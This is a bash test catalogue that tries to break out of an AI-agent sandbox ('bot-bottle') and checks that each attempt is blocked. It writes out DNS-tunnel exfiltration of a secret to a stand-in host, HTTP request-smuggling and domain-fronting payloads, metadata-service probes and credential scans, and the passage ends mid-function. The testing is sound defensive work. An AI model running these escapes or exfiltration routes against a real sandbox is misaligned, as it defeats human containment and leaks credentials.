#!/bin/bash
# The sandbox-escape catalogue: every way out of a bottle that bot-bottle promises to close, as concrete attempts
# an attacker runs inside the bottle as the agent user. The one place the catalogue lives: the integration suite
# (SandboxEscapeIT) and `bottle doctor --escape-test AGENT` both run it through dev.botbottle.core.escape.EscapeTest.
#
#   attempts.sh ID     runs one attempt and ends with "BBX RESULT <OUTCOME> <what was observed>"
#
# OUTCOME is PASSED/FAILED for a control (the allowed path works, so "all blocked" cannot be a broken setup),
# BLOCKED/ESCAPED for an attack, NA when the attempt does not apply to this bottle (the reason says why). Other
# lines the runner reads: "BBX AUDIT <service> <text>" (an audit line of that gateway service must name the text),
# "BBX BYAUDIT <service> <regex>" (the gateway forwarded the request: it counts as blocked only if the service's
# audit says so, e.g. a DLP redaction). What the host knows is handed over in BBX_* variables (EscapeTest
# documents them); secrets the bottle must never see are in $BBX_DIR/needles, the one the attacker is assumed to
# have stolen in $BBX_DIR/secret.
#
# Every attempt is declared on one "#@" line: id | family | gateway service it talks to | attempt | expected.
# The function implementing it is named after the id (dots and dashes become underscores).
set -u
export LC_ALL=C
T=${BBX_TIMEOUT:-3}
D=${BBX_DIR:?BBX_DIR is not set}
NET="perl $D/net.pl"
CURL_MAX=20

# ---- helpers ----------------------------------------------------------------------------------------------------

result() { printf 'BBX RESULT %s %s\n' "$1" "$(printf '%s' "$2" | tr '\n\t\r' '   ' | cut -c1-400)"; exit 0; }
blocked() { result BLOCKED "$1"; }
escaped() { result ESCAPED "$1"; }
na() { result NA "$1"; }
passed() { result PASSED "$1"; }
failed() { result FAILED "$1"; }
audit() { printf 'BBX AUDIT %s %s\n' "$1" "$2"; }
by_audit() { printf 'BBX BYAUDIT %s %s\n' "$1" "$2"; }

P=${HTTPS_PROXY:-}
PX=${P#*://}
PX=${PX%/}
PXCRED=${PX%@*}
PXHP=${PX#*@}
PXHOST=${PXHP%:*}
PXPORT=${PXHP##*:}
PXUSER=${PXCRED%%:*}
PXPASS=${PXCRED#*:}
PXAUTH=$(printf %s "$PXCRED" | base64 -w0)
SECRET=$(cat "$D/secret" 2>/dev/null)

field() { # field N "a b c": the Nth word
    local n=$1
    shift
    set -- $*
    eval "printf %s \"\${$n:-}\""
}
AUTH_HOST=$(field 1 "${BBX_AUTH:-}")
AUTH_PATH=$(field 2 "${BBX_AUTH:-}")
AUTH_METHOD=$(field 3 "${BBX_AUTH:-}")
PLAIN_HOST=$(field 1 "${BBX_PLAIN:-}")
PLAIN_PATH=$(field 2 "${BBX_PLAIN:-}")
PLAIN_METHOD=$(field 3 "${BBX_PLAIN:-}")
PASS_HOST=${BBX_PASS:-}

# hc ARGS...: curl through the bottle's proxy (even for the addresses NO_PROXY lists); prints the status: the
# upstream's, or the gateway's answer to CONNECT when it refused the tunnel (000 when nothing answered); body in $D/body
hc() {
    local c
    c=$(curl -sS --noproxy '' -o "$D/body" -w '%{http_code} %{http_connect}' --max-time $CURL_MAX "$@" 2>"$D/curl.err")
    if [ "${c% *}" = 000 ] && [ "${c#* }" != 000 ]; then printf %s "${c#* }"; else printf %s "${c% *}"; fi
}
# denied: whether the last body is the egress gateway's own refusal
denied() { grep -q 'bot-bottle egress gateway' "$D/body" 2>/dev/null; }
# has_needle FILE...: whether any file holds a secret the bottle must never see
has_needle() { [ -s "$D/needles" ] && grep -qaF -f "$D/needles" "$@" 2>/dev/null; }
# raw_proxy FORMAT: sends the printf FORMAT to the proxy's port as it is, prints the first line of the answer
raw_proxy() {
    printf "$1" >"$D/req"
    $NET talk "$PXHOST" "$PXPORT" "$D/req" 15 >"$D/resp" 2>"$D/talk.err"
    if [ -s "$D/resp" ]; then
        head -c 300 "$D/resp" | head -1 | tr -d '\r'
    else
        echo "no answer ($(head -c 120 "$D/talk.err" | tr '\n' ' '))"
    fi
}
# tunnel HOST PORT SNI FORMAT: CONNECT through the proxy (with its secret), TLS with SNI (- for none), sends the
# printf FORMAT inside; prints the first line of the answer inside the tunnel, or what went wrong
tunnel() {
    local sni=(-servername "$3")
    [ "$3" = "-" ] && sni=(-noservername)
    local ca=/etc/ssl/certs/ca-certificates.crt
    [ -n "${5:-}" ] && ca=$5
    printf "$4" | timeout 25 openssl s_client -quiet -proxy "$PXHP" -proxy_user "$PXUSER" -proxy_pass "pass:$PXPASS" \
        -connect "$1:$2" "${sni[@]}" -CAfile "$ca" >"$D/resp" 2>"$D/tls.err"
    if [ -s "$D/resp" ]; then
        head -1 "$D/resp" | tr -d '\r' | cut -c1-200
    else
        echo "no answer ($(grep -m1 -oiE 'error[^ ]*|refused|denied|handshake failure|alert [a-z ]+|HTTP/1\.[01] [0-9]+[^:]*' "$D/tls.err" | head -1))"
    fi
}
status_of() { printf '%s' "$1" | grep -oE 'HTTP/[0-9.]+ [0-9]{3}' | head -1 | awk '{print $2}'; }
need_plain() { [ -n "$PLAIN_HOST" ] || na "the manifest has no intercepted route without auth"; }
need_auth() { [ -n "$AUTH_HOST" ] || na "the manifest has no route with auth"; }
need_pass() { [ -n "$PASS_HOST" ] || na "the manifest has no tls_passthrough route"; }
need_git() { [ -n "${BBX_GIT_URL:-}" ] || na "the manifest has no git remote"; }
need_sv() { [ -n "${BBX_SV_URL:-}" ] || na "supervise is off for this bottle"; }
need_other() { [ -n "${BBX_OTHER:-}" ] || na "no second bottle was launched"; }
plain_url() { printf 'https://%s%s' "$PLAIN_HOST" "${PLAIN_PATH:-/}"; }
join_words() { tr '\n' ' ' | sed 's/ *$//'; }

# ---- controls ---------------------------------------------------------------------------------------------------

#@ control.plain-route | control | egress | a request on the plain route | the gateway forwards it and audits ALLOW
control_plain_route() {
    need_plain
    audit egress "$PLAIN_HOST"
    local c
    c=$(hc -X "${PLAIN_METHOD:-GET}" "$(plain_url)")
    if [ "$c" != 000 ] && ! denied; then passed "HTTP $c from upstream"; fi
    failed "HTTP $c: $(head -c 200 "$D/body" 2>/dev/null)$(cat "$D/curl.err")"
}

#@ control.auth-route | control | egress | a request on the auth route with the placeholder | the gateway injects the credential and forwards it
control_auth_route() {
    need_auth
    audit egress "$AUTH_HOST"
    local c
    c=$(hc -X "${AUTH_METHOD:-GET}" -H "Authorization: Bearer bot-bottle-placeholder" -H 'Content-Type: application/json' \
        $([ "${AUTH_METHOD:-GET}" = POST ] && echo --data '{}') "https://$AUTH_HOST${AUTH_PATH:-/}")
    if [ "$c" != 000 ] && ! denied; then passed "HTTP $c from upstream"; fi
    failed "HTTP $c: $(head -c 200 "$D/body" 2>/dev/null)$(cat "$D/curl.err")"
}

#@ control.passthrough-route | control | egress | a TLS session spliced on the passthrough route | the upstream's own certificate is seen
control_passthrough_route() {
    need_pass
    audit egress "$PASS_HOST"
    local ca=()
    [ -n "${BBX_PASS_CA:-}" ] && ca=(--cacert "$BBX_PASS_CA")
    local c
    c=$(hc "${ca[@]}" "https://$PASS_HOST/")
    if [ "$c" != 000 ]; then passed "HTTP $c over the upstream's own TLS"; fi
    failed "no TLS session: $(cat "$D/curl.err")"
}

#@ control.harmless-upload | control | egress | an ordinary body on the plain route | forwarded (the exfiltration channel works)
control_harmless_upload() {
    need_plain
    audit egress "$PLAIN_HOST"
    local c
    c=$(hc --data-binary 'an ordinary body, nothing secret' "https://$PLAIN_HOST${PLAIN_PATH:-/}")
    if [ "$c" != 000 ] && ! denied; then passed "HTTP $c"; fi
    failed "HTTP $c: $(head -c 200 "$D/body")"
}

#@ control.gateway-ports | control | none | the scanner finds this bottle's own gateway ports open | every own port answers
control_gateway_ports() {
    local bad=""
    for p in ${BBX_SELF_TCP:-}; do
        [ "$($NET connect "$BBX_SELF" "$p" "$T")" = open ] || bad="$bad $p"
    done
    [ -z "${BBX_SELF_TCP:-}" ] && failed "no gateway port was handed over"
    [ -z "$bad" ] && passed "open: ${BBX_SELF_TCP}"
    failed "not open:$bad"
}

#@ control.git-push | control | gitgate | clone, commit and push to an allowed branch | the push lands upstream
control_git_push() {
    need_git
    audit gitgate "${BBX_GIT_REMOTE:-}"
    rm -rf "$D/gc"
    local out
    if ! out=$(git clone -q "$BBX_GIT_URL" "$D/gc" 2>&1); then
        if [ -n "${BBX_GIT_UPSTREAM_UNREACHABLE:-}" ]; then na "the gate cannot reach upstream with a canary key: $out"; fi
        failed "clone: $out"
    fi
    cd "$D/gc" || failed "no clone"
    git config user.email escape@bottle.test
    git config user.name "Escape Test"
    echo "control $(date +%s%N)" >control.txt
    git add control.txt && git commit -q -m "escape-test control"
    if out=$(git push -q origin "HEAD:${BBX_GIT_BRANCH:?}" 2>&1); then passed "pushed ${BBX_GIT_BRANCH} $(git rev-parse --short HEAD)"; fi
    failed "push: $out"
}

#@ control.supervise | control | supervise | call list-egress-routes with this bottle's own bearer | the server answers
control_supervise() {
    need_sv
    audit supervise list-egress-routes
    local out
    out=$(mcp "$BBX_SV_URL" "${BOT_BOTTLE_SUPERVISE_TOKEN:-}" '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"list-egress-routes","arguments":{}}}')
    case "$out" in *"HTTP 200"*) case "$out" in *isError\":true*) ;; *) passed "list-egress-routes answered" ;; esac ;; esac
    failed "$out"
}

# ---- 1. network -------------------------------------------------------------------------------------------------

#@ net.outside-tcp | network | none | TCP to outside addresses without the proxy (1.1.1.1:443, 8.8.8.8:53, 9.9.9.9:80, 140.82.112.3:22) | no connection
net_outside_tcp() {
    local out="" open=""
    for hp in 1.1.1.1:443 8.8.8.8:53 9.9.9.9:80 140.82.112.3:22; do
        local r
        r=$($NET connect "${hp%:*}" "${hp##*:}" "$T")
        out="$out ${hp}=$r"
        [ "$r" = open ] && open="$open $hp"
    done
    [ -n "$open" ] && escaped "connected:$open"
    blocked "$out"
}

#@ net.outside-name | network | egress | HTTP to outside names and addresses bypassing the proxy (curl --noproxy) | no answer: names do not resolve, addresses are unreachable
net_outside_name() {
    audit egress example.com
    local out="" got=""
    for u in https://example.com/ http://example.com/ http://1.1.1.1/ https://[2606:4700:4700::1111]/; do
        local c
        c=$(curl -sS -o /dev/null -w '%{http_code}' --noproxy '*' --max-time "$T" "$u" 2>"$D/err")
        out="$out $u=$c($(head -c 60 "$D/err" | tr -d '\n'))"
        [ "$c" != 000 ] && got="$got $u"
    done
    [ -n "$got" ] && escaped "answered:$got"
    blocked "$out"
}

#@ net.outside-udp | network | none | UDP to outside resolvers and NTP (8.8.8.8:53, 1.1.1.1:53, 9.9.9.9:123) | no reply
net_outside_udp() {
    local q="123401000001000000000000076578616d706c6503636f6d0000010001"
    local ntp="1b$(printf '0%.0s' $(seq 1 94))"
    local out="" got=""
    for t in 8.8.8.8:53:$q 1.1.1.1:53:$q 9.9.9.9:123:$ntp; do
        local h=${t%%:*} rest=${t#*:}
        local r
        r=$($NET udp "$h" "${rest%%:*}" "${rest#*:}" "$T")
        out="$out $h:${rest%%:*}=$r"
        case "$r" in reply*) got="$got $h" ;; esac
    done
    [ -n "$got" ] && escaped "replies from:$got"
    blocked "$out"
}

#@ net.icmp | network | none | ICMP echo to the host and outside (raw and datagram sockets, ping) | no socket, or no reply
net_icmp() {
    local out="" got=""
    for h in "${BBX_SELF:-}" 1.1.1.1; do
        [ -z "$h" ] && continue
        local r
        r=$($NET icmp "$h")
        out="$out $h: $r."
        case "$r" in *REPLY*) got="$got $h" ;; esac
    done
    if command -v ping >/dev/null 2>&1; then
        if ping -c1 -W"$T" "${BBX_SELF:-1.1.1.1}" >/dev/null 2>&1; then got="$got ping:${BBX_SELF:-}"; fi
        out="$out ping binary tried."
    fi
    [ -n "$got" ] && escaped "ICMP answered by:$got"
    blocked "$out"
}

#@ net.ipv6 | network | none | IPv6: an address on the bottle's interfaces, TCP to the host's IPv6 addresses and outside | no IPv6 beyond loopback, no connection
net_ipv6() {
    local addrs
    addrs=$(awk '$6 != "lo" {print $1"%"$6}' /proc/net/if_inet6 2>/dev/null | join_words)
    local out="interfaces:${addrs:- none}." open=""
    for hp in $(printf '%s\n' ${BBX_WIT_TCP:-} | grep '^\[') '[2606:4700:4700::1111]:443'; do
        local r
        r=$($NET connect "${hp%:*}" "${hp##*:}" "$T")
        out="$out $hp=$r"
        [ "$r" = open ] && open="$open $hp"
    done
    [ -n "$open" ] && escaped "connected:$open"
    [ -n "$addrs" ] && escaped "the bottle has IPv6 addresses: $addrs"
    blocked "$out"
}

#@ net.dns-outside | network | egress | look up outside names with the system resolver (getent) | every name fails at once, each is audited
net_dns_outside() {
    local out="" got=""
    for n in example.com github.com registry.npmjs.org; do
        audit egress "$n"
        if r=$(getent ahosts "$n" 2>&1); then got="$got $n=$(echo "$r" | head -1 | awk '{print $1}')"; fi
        out="$out $n=fails"
    done
    [ -n "$got" ] && escaped "resolved:$got"
    blocked "$out"
}

#@ net.dns-direct | network | egress | DNS queries straight to the embedded resolver, the gateway's responder and outside servers (UDP and TCP, A/AAAA/TXT) | NXDOMAIN or no answer, never a record
net_dns_direct() {
    local out="" got=""
    local servers="127.0.0.11:53 ${BBX_SELF:-}:53 8.8.8.8:53"
    for s in $servers; do
        for proto in udp tcp; do
            for type in A TXT AAAA; do
                local name="dns-direct-$type.example.com"
                [ "${s%:*}" != 8.8.8.8 ] && audit egress "$name"
                local r
                r=$($NET dns "${s%:*}" "${s##*:}" $proto "$name" $type "$T")
                case "$r" in rcode=0*answers=[1-9]*) got="$got $s/$proto/$type" ;; esac
                out="$out $s/$proto/$type=$r"
            done
        done
    done
    [ -n "$got" ] && escaped "answered with records:$got"
    blocked "$(echo "$out" | tr ' ' '\n' | sort | uniq -c | awk '{print $2"x"$1}' | join_words)"
}

#@ net.dns-tunnel | network | egress | DNS-tunnel shapes: the stolen secret hex- and base32-encoded in labels of outside names, TXT queries | NXDOMAIN, and the names stay at the gateway
net_dns_tunnel() {
    local hex b32
    hex=$(printf %s "$SECRET" | od -An -tx1 | tr -d ' \n')
    b32=$(printf %s "$SECRET" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
    local out="" got=""
    for enc in "$hex" "$b32"; do
        local labels
        labels=$(printf %s "$enc" | fold -w 60 | join_words | tr ' ' '.')
        for type in A TXT; do
            local r
            r=$($NET dns 127.0.0.11 53 udp "$labels.t.exfil-test.example" $type "$T")
            out="$out $type=$r"
            case "$r" in rcode=0*answers=[1-9]*) got="$got $type" ;; esac
        done
    done
    audit egress "exfil-test.example"
    [ -n "$got" ] && escaped "answered:$got"
    blocked "$out"
}

#@ net.dns-wildcard | network | egress | the stolen secret in labels under the wildcard route: looked up over DNS, and as a CONNECT target (hex, base32, base64url, split across labels) | NXDOMAIN; the gateway refuses the names before any lookup
net_dns_wildcard() {
    [ -n "${BBX_WILD:-}" ] || na "the manifest has no wildcard route"
    local hex b32 b64
    hex=$(printf %s "$SECRET" | od -An -tx1 | tr -d ' \n')
    b32=$(printf %s "$SECRET" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')
    b64=$(printf %s "$SECRET" | base64 -w0 | tr -d '=' | tr '+/' '-_')
    local out="" got=""
    local r
    r=$($NET dns 127.0.0.11 53 udp "$(printf %s "$hex" | cut -c1-60).$BBX_WILD" A "$T")
    out="dns=$r"
    case "$r" in rcode=0*answers=[1-9]*) got="$got dns" ;; esac
    for enc in hex:$hex b32:$b32 b64:$b64; do
        local name=${enc#*:}
        name=$(printf %s "$name" | fold -w 60 | join_words | tr ' ' '.')
        local c
        c=$(curl -sS -o /dev/null -w '%{http_connect}/%{http_code}' --max-time $CURL_MAX "https://$name.$BBX_WILD/" 2>/dev/null)
        out="$out ${enc%%:*}=$c"
        case "$c" in 403/*) ;; *) got="$got ${enc%%:*}($c)" ;; esac
    done
    audit egress "$BBX_WILD"
    [ -n "$got" ] && escaped "not refused:$got"
    blocked "$out"
}

# ---- 2. proxy misuse --------------------------------------------------------------------------------------------

#@ proxy.no-secret | proxy | egress | use the gateway without the bottle's proxy secret: none, a guessed one, the other bottle's | 407 every time
proxy_no_secret() {
    need_plain
    audit egress "$PLAIN_HOST"
    local out="" bad=""
    local other=""
    [ -n "${BBX_OTHER_PROXY:-}" ] && other=${BBX_OTHER_PROXY#*://} && other=${other%@*}
    for cred in none "bottle:guess" ${other:+"$other"}; do
        local url="http://$PXHP"
        [ "$cred" != none ] && url="http://$cred@$PXHP"
        local t p
        t=$(curl -sS -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX --proxy "$url" "https://$PLAIN_HOST/" 2>/dev/null)
        p=$(curl -sS -o /dev/null -w '%{http_code}' --max-time $CURL_MAX --proxy "$url" "http://$PLAIN_HOST/" 2>/dev/null)
        local name=$cred
        [ "$cred" = "$other" ] && name="other-bottle"
        out="$out $name:connect=$t,get=$p"
        [ "$t" != 407 ] && bad="$bad $name/connect=$t"
        [ "$p" != 407 ] && bad="$bad $name/get=$p"
    done
    [ -n "$bad" ] && escaped "not 407:$bad"
    blocked "$out"
}

#@ proxy.ip-literal | proxy | egress | CONNECT and absolute-form HTTP to IP literals: outside, host loopback, the metadata service, this bottle's own gateway, the other bottle's | 403
proxy_ip_literal() {
    local out="" bad=""
    local targets="1.1.1.1:443 127.0.0.1:${BBX_LOOP_TCP:-22} [::1]:443 169.254.169.254:443 ${BBX_SELF:-}:${BBX_GATE_PORT:-22}"
    [ -n "${BBX_OTHER:-}" ] && targets="$targets $BBX_OTHER:$(field 1 "${BBX_OTHER_TCP:-443}")"
    for t in $targets; do
        audit egress "$(printf %s "${t%:*}" | tr -d '[]')"
        local c
        c=$(curl -sS --noproxy '' -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX -k "https://$t/" 2>/dev/null)
        out="$out $t=$c"
        [ "$c" != 403 ] && bad="$bad $t=$c"
    done
    local g
    g=$(hc "http://169.254.169.254/latest/meta-data/")
    out="$out metadata-get=$g"
    [ "$g" != 403 ] && bad="$bad metadata-get=$g"
    [ -n "$bad" ] && escaped "not refused:$bad"
    blocked "$out"
}

#@ proxy.non-route | proxy | egress | CONNECT and absolute-form HTTP to hosts that are no route | 403 with the reason
proxy_non_route() {
    local out="" bad=""
    for h in not-a-route.escape-test.invalid github.com; do
        audit egress "$h"
        local t p
        t=$(curl -sS -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX "https://$h/" 2>/dev/null)
        p=$(hc "http://$h/")
        out="$out $h:connect=$t,get=$p"
        [ "$t" != 403 ] && bad="$bad $h/connect=$t"
        [ "$p" != 403 ] && bad="$bad $h/get=$p"
    done
    [ -n "$bad" ] && escaped "not refused:$bad"
    blocked "$out"
}

#@ proxy.other-port | proxy | egress | route hosts on ports the route does not list (CONNECT :22, :8443; absolute-form :8080) | 403
proxy_other_port() {
    need_plain
    audit egress "$PLAIN_HOST"
    local out="" bad=""
    for port in 22 8443; do
        local c
        c=$(curl -sS -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX "https://$PLAIN_HOST:$port/" 2>/dev/null)
        out="$out connect:$port=$c"
        [ "$c" != 403 ] && bad="$bad connect:$port=$c"
    done
    if [ -n "$AUTH_HOST" ]; then
        local c
        c=$(curl -sS -o /dev/null -w '%{http_connect}' --max-time $CURL_MAX "https://$AUTH_HOST:22/" 2>/dev/null)
        out="$out auth-connect:22=$c"
        [ "$c" != 403 ] && bad="$bad auth-connect:22=$c"
    fi
    local g
    g=$(hc "http://$PLAIN_HOST:8080/")
    out="$out get:8080=$g"
    [ "$g" != 403 ] && bad="$bad get:8080=$g"
    [ -n "$bad" ] && escaped "not refused:$bad"
    blocked "$out"
}

#@ proxy.sni-fronting | proxy | egress | domain fronting: SNI of another host than the CONNECT target, on intercepted and passthrough tunnels; a passthrough tunnel without SNI | the tunnel is refused
proxy_sni_fronting() {
    need_plain
    local other=${AUTH_HOST:-not-a-route.escape-test.invalid}
    local out="" bad=""
    audit egress "$PLAIN_HOST"
    local r
    r=$(tunnel "$PLAIN_HOST" 443 "$other" "GET ${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $other\r\nConnection: close\r\n\r\n")
    out="intercepted:sni=$other:$r"
    case "$r" in HTTP/1.1\ 2*|HTTP/1.1\ 3*) bad="$bad intercepted" ;; esac
    if [ -n "$PASS_HOST" ]; then
        audit egress "$PASS_HOST"
        r=$(tunnel "$PASS_HOST" 443 "$other" "GET / HTTP/1.1\r\nHost: $other\r\nConnection: close\r\n\r\n" "${BBX_PASS_CA:-}")
        out="$out passthrough:sni=$other:$r"
        case "$r" in HTTP/1.1\ *) bad="$bad passthrough-sni" ;; esac
        r=$(tunnel "$PASS_HOST" 443 - "GET / HTTP/1.1\r\nHost: $PASS_HOST\r\nConnection: close\r\n\r\n" "${BBX_PASS_CA:-}")
        out="$out passthrough:no-sni:$r"
        case "$r" in HTTP/1.1\ *) bad="$bad passthrough-no-sni" ;; esac
        printf "CONNECT $PASS_HOST:443 HTTP/1.1\r\nHost: $PASS_HOST:443\r\nProxy-Authorization: Basic $PXAUTH\r\n\r\nGET / HTTP/1.1\r\nHost: $PASS_HOST\r\n\r\n" >"$D/req"
        $NET talk "$PXHOST" "$PXPORT" "$D/req" 8 >"$D/resp" 2>/dev/null
        local inner
        inner=$(tr -d '\r' <"$D/resp" | grep -c '^HTTP/1' || true)
        out="$out passthrough:plaintext-inside:answers=$inner"
        [ "${inner:-0}" -gt 1 ] && bad="$bad passthrough-plaintext"
    fi
    [ -n "$bad" ] && escaped "a fronted request was answered:$bad ($out)"
    blocked "$out"
}

#@ proxy.host-mismatch | proxy | egress | inside an intercepted tunnel: Host of another route or of a non-route host; absolute-form target of another host; an absolute-form proxy request whose Host differs | 400 or 403
proxy_host_mismatch() {
    need_plain
    local other=${AUTH_HOST:-not-a-route.escape-test.invalid}
    audit egress "$PLAIN_HOST"
    local out="" bad="" r s
    for h in "$other" not-a-route.escape-test.invalid; do
        r=$(tunnel "$PLAIN_HOST" 443 "$PLAIN_HOST" "GET ${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $h\r\nConnection: close\r\n\r\n")
        s=$(status_of "$r")
        out="$out host=$h:${s:-$r}"
        case "$s" in 400|403) ;; *) bad="$bad host=$h:${s:-?}" ;; esac
    done
    r=$(tunnel "$PLAIN_HOST" 443 "$PLAIN_HOST" "GET https://$other/ HTTP/1.1\r\nHost: $PLAIN_HOST\r\nConnection: close\r\n\r\n")
    s=$(status_of "$r")
    out="$out absolute-inside:${s:-$r}"
    case "$s" in 400|403) ;; *) bad="$bad absolute-inside:${s:-?}" ;; esac
    r=$(raw_proxy "GET http://$PLAIN_HOST/ HTTP/1.1\r\nHost: $other\r\nProxy-Authorization: Basic $PXAUTH\r\nConnection: close\r\n\r\n")
    s=$(status_of "$r")
    out="$out absolute-form:${s:-$r}"
    case "$s" in 400|403) ;; *) bad="$bad absolute-form:${s:-?}" ;; esac
    [ -n "$bad" ] && escaped "answered:$bad"
    blocked "$out"
}

#@ proxy.duplicate-host | proxy | egress | two Host headers (the route's and another) on the auth route and the plain route | 400
proxy_duplicate_host() {
    need_plain
    local out="" bad="" r s
    for h in ${AUTH_HOST:-} "$PLAIN_HOST"; do
        audit egress "$h"
        local path=$PLAIN_PATH
        [ "$h" = "$AUTH_HOST" ] && path=$AUTH_PATH
        r=$(tunnel "$h" 443 "$h" "GET ${path:-/} HTTP/1.1\r\nHost: $h\r\nHost: not-a-route.escape-test.invalid\r\nConnection: close\r\n\r\n")
        s=$(status_of "$r")
        out="$out $h:${s:-$r}"
        case "$s" in 400|403) ;; *) bad="$bad $h:${s:-?}" ;; esac
    done
    [ -n "$bad" ] && escaped "answered:$bad"
    blocked "$out"
}

#@ proxy.smuggling | proxy | egress | request smuggling in a tunnel: Content-Length with Transfer-Encoding, TE variants (chunked+identity, xchunked, a space or tab before the colon, two TE headers), each followed by a request for another route's host | refused, or framed one way end to end: the hidden request is never answered nor forwarded
proxy_smuggling() {
    need_plain
    audit egress "$PLAIN_HOST"
    local smuggled="GET /escape-smuggled HTTP/1.1\r\nHost: ${AUTH_HOST:-not-a-route.escape-test.invalid}\r\n\r\n"
    local out="" bad="" r s i=0
    local heads=(
        "Content-Length: 6\r\nTransfer-Encoding: chunked"
        "Transfer-Encoding: chunked, identity"
        "Transfer-Encoding: xchunked"
        "Transfer-Encoding : chunked"
        "Transfer-Encoding:\tchunked\r\nTransfer-Encoding: identity"
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"
    )
    for hd in "${heads[@]}"; do
        i=$((i + 1))
        r=$(tunnel "$PLAIN_HOST" 443 "$PLAIN_HOST" "POST ${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $PLAIN_HOST\r\n$hd\r\n\r\n0\r\n\r\n$smuggled")
        s=$(status_of "$r")
        out="$out v$i:${s:-$r}"
        local second
        second=$(tr -d '\r' <"$D/resp" | grep -oE '^HTTP/1\.[01] [0-9]{3}' | sed -n 2p | awk '{print $2}')
        case "$second" in ""|400|403) ;; *) bad="$bad v$i:second-answer-$second" ;; esac
    done
    [ -n "$bad" ] && escaped "accepted:$bad ($out)"
    blocked "$out"
}

#@ proxy.trailers | proxy | egress | a chunked body whose trailer carries the stolen secret and a Host | the trailer never reaches upstream
proxy_trailers() {
    need_plain
    audit egress "$PLAIN_HOST"
    local r s
    r=$(tunnel "$PLAIN_HOST" 443 "$PLAIN_HOST" "POST ${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $PLAIN_HOST\r\nTransfer-Encoding: chunked\r\nTrailer: X-Escape-Trailer\r\nConnection: close\r\n\r\n4\r\nbody\r\n0\r\nX-Escape-Trailer: $SECRET\r\nHost: not-a-route.escape-test.invalid\r\n\r\n")
    s=$(status_of "$r")
    if has_needle "$D/resp"; then escaped "the secret came back: $r"; fi
    printf 'BBX WITNESS trailer\n'
    blocked "the gateway answered ${s:-$r}"
}

#@ proxy.pipelining | proxy | egress | pipelined requests: a second one to another host on one intercepted tunnel and on one absolute-form connection | the second is refused, never forwarded
proxy_pipelining() {
    need_plain
    audit egress "$PLAIN_HOST"
    local other=${AUTH_HOST:-not-a-route.escape-test.invalid}
    local out="" bad=""
    tunnel "$PLAIN_HOST" 443 "$PLAIN_HOST" "GET ${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $PLAIN_HOST\r\n\r\nGET /escape-pipelined HTTP/1.1\r\nHost: $other\r\nConnection: close\r\n\r\n" >/dev/null
    local codes
    codes=$(tr -d '\r' <"$D/resp" | grep -oE '^HTTP/1\.[01] [0-9]{3}' | awk '{print $2}' | join_words)
    out="tunnel:[$codes]"
    case "$(field 2 "$codes")" in 400|403|"") ;; *) bad="$bad tunnel-second=$(field 2 "$codes")" ;; esac
    raw_proxy "GET http://$PLAIN_HOST${PLAIN_PATH:-/} HTTP/1.1\r\nHost: $PLAIN_HOST\r\nProxy-Authorization: Basic $PXAUTH\r\n\r\nGET http://not-a-route.escape-test.invalid/escape-pipelined HTTP/1.1\r\nHost: not-a-route.escape-test.invalid\r\nProxy-Authorization: Basic $PXAUTH\r\nConnection: close\r\n\r\n" >/dev/null
    codes=$(tr -d '\r' <"$D/resp" | grep -oE '^HTTP/1\.[01] [0-9]{3}' | awk '{print $2}' | join_words)
    out="$out absolute-form:[$codes]"
    [ -n "$(field 2 "$codes")" ] && audit egress not-a-route.escape-test.invalid
    case "$(field 2 "$codes")" in 400|403|"") ;; *) bad="$bad absolute-second=$(field 2 "$codes")" ;; esac
    [ -n "$bad" ] && escaped "$bad ($out)"
    blocked "$out"
}

#@ proxy.placeholder-elsewhere | proxy | egress | the provider's placeholder credential sent to a non-route host, to the plain route and to the auth route's host on another path | refused, or forwarded as the placeholder: never the real credential
proxy_placeholder_elsewhere() {
    need_plain
    local ph=""
    for v in ${BBX_PLACEHOLDER_VARS:-}; do ph=${!v:-}; [ -n "$ph" ] && break; done
    [ -z "$ph" ] && ph=bot-bottle-placeholder
    local out="" bad="" c
    audit egress not-a-route.escape-test.invalid
    c=$(hc -H "Authorization: Bearer $ph" "https://not-a-route.escape-test.invalid/")
    out="non-route=$c"
    [ "$c" != 403 ] && bad="$bad non-route=$c"
    audit egress "$PLAIN_HOST"
    c=$(hc -H "Authorization: Bearer $ph" -H "X-Api-Key: $ph" "https://$PLAIN_HOST/echo-placeholder")
    out="$out plain-route=$c"
    has_needle "$D/body" && bad="$bad plain-route-echoed-the-credential"
    if [ -n "$AUTH_HOST" ]; then
        c=$(hc -H "Authorization: Bearer $ph" "https://$AUTH_HOST/escape-not-an-allowed-path")
        out="$out auth-host-other-path=$c"
        has_needle "$D/body" && bad="$bad auth-route-echoed-the-credential"
    fi
    printf 'BBX WITNESS placeholder\n'
    [ -n "$bad" ] && escaped "$bad"
    blocked "$out"
}

#@ proxy.private-upstream | proxy | egress | a route host that resolves to a loopback or private address (no allow_private) | 403 naming the address
proxy_private_upstream() {
    [ -n "${BBX_FLOOR:-}" ] || na "no route of this manifest resolves to a private address (the integration suite has one)"
    audit egress "$BBX_FLOOR"
    local t g
    # an intercepted route's tunnel opens at once; the floor refuses the request inside it, before any connection
    t=$(hc "https://$BBX_FLOOR/admin")
    [ "$t" = 403 ] && denied || escaped "the tunnel's request was answered $t, not refused by the gateway"
    g=$(hc "http://$BBX_FLOOR/admin")
    [ "$g" = 403 ] && denied || escaped "absolute-form answered $g, not refused by the gateway"
    blocked "connect=$t get=$g: $(head -1 "$D/body" | cut -c1-80)"
}

# ---- 3. credentials ---------------------------------------------------------------------------------------------

#@ cred.env | credentials | none | the real credentials or keys in the agent's environment | not there
cred_env() {
    env >"$D/env.txt"
    has_needle "$D/env.txt" && escaped "a secret is in the environment: $(grep -aF -f "$D/needles" "$D/env.txt" | cut -d= -f1 | join_words)"
    blocked "$(wc -l <"$D/env.txt") variables, no secret"
}

#@ cred.files | credentials | none | the real credentials or keys in any file the agent can read | not there
cred_files() {
    local hits
    hits=$(grep -rlaF -f "$D/needles" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev \
